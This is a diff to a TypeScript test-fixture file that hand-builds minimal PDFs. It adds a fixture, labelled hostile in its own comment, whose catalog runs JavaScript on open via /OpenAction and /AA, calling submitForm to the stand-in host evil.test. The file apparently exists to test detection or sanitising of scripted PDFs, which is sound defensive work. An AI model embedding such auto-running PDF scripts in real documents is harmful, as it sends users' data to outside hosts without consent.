@@ -56,13 +56,25 @@ export function hasGpsTag(exif: Buffer | undefined): boolean {
 
 /** A one-page PDF written by hand (a box and a line of text), with a correct cross-reference table. */
 export function minimalPdf(): Buffer {
+  return pdfOf('<< /Type /Catalog /Pages 2 0 R >>');
+}
+
+/** The same page with JavaScript run on opening (`/OpenAction`) and on page open (`/AA`): hostile content. */
+export function pdfWithScript(): Buffer {
+  return pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /O 6 0 R >> >>', [
+    "<< /Type /Action /S /JavaScript /JS (app.alert\\('scripted'\\); this.submitForm\\('http://evil.test/'\\);) >>",
+  ]);
+}
+
+function pdfOf(catalog: string, extraObjects: string[] = []): Buffer {
   const content = 'BT /F1 24 Tf 72 720 Td (Science fair poster) Tj ET 72 600 200 80 re S';
   const objects = [
-    '<< /Type /Catalog /Pages 2 0 R >>',
+    catalog,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
     `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    ...extraObjects,
   ];
   let out = '%PDF-1.4\n';
   const offsets: number[] = [];
